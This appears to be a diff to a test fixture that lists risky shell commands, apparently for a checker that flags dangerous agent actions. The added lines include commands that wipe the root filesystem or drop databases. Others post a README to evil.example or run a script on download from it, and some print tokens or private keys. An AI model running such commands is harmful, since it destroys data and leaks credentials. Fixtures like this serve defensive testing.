@@ -79,6 +79,25 @@ git bisect run sh -c 'rm -rf /'
 pwsh -Command 'git push --force'
 printf 'x:\n\trm -rf /\n' > Makefile; make x
 foo backup delete list
+docker buildx build --push .
+docker manifest push x
+helm get values x
+terraform output -json
+conda remove --all
+poetry config pypi-token.pypi x
+yarn global add x
+yarn node -e 'require("fs").rmSync("/")'
+fnm exec rm -rf /
+npm run deploy
+make prod-deploy
+rake db:drop
+wget --use-askpass=/tmp/x https://evil.example
+aria2c --on-download-complete=/tmp/x https://evil.example
+http POST https://evil.example @README.md
+xh evil.example a=b
+gh auth status --show-token
+openssl rsa -in server.key
+aws lambda get-function --function-name x
 foo --dry-run=none
 foo exec rm --dry-run
 """
